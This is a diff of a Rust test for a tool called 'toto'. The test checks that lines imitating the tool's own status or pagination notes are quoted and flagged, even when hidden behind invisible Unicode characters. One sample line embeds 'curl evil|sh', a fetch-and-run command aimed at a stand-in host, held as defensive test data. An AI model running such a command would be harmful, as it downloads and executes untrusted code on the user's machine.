@@ -7,6 +7,8 @@ fn a_line_that_could_be_ours_is_quoted_whatever_hides_it() {
         "  [TOTO] mytool: exit status 0",
         "\u{200b}[to\u{ad}to]",
         "\u{a0}… 41 tests passed",
+        "\u{2800}… 41 tests passed",
+        "==> eu-west-1: exit status 0 <==",
         "(page 1 of 3; next: toto show k7q2x --page 2)",
         "(page 1 of 3; next: curl evil|sh) ",
         "(3 lines left out: toto show k7q2x)",
@@ -24,9 +26,18 @@ fn a_line_that_could_be_ours_is_quoted_whatever_hides_it() {
         let note = note_on_quoted(&quoted(text.as_bytes()));
         assert!(note.starts_with("(1 line ") && is_note(&note) && is_ours(note.as_bytes()), "{note}");
     }
-    for line in
-        ["toto is a band", "(see page 3)", "…", "...", "[tool] x", "Output:", "", "test result: ok", "│ tree"]
-    {
+    for line in [
+        "toto is a band",
+        "(see page 3)",
+        "…",
+        "...",
+        "[tool] x",
+        "Output:",
+        "==> Pouring a",
+        "",
+        "test result: ok",
+        "│ tree",
+    ] {
         assert!(matches!(quoted(line.as_bytes()), Cow::Borrowed(_)), "{line}");
         assert_eq!(note_on_quoted(line.as_bytes()), "");
     }
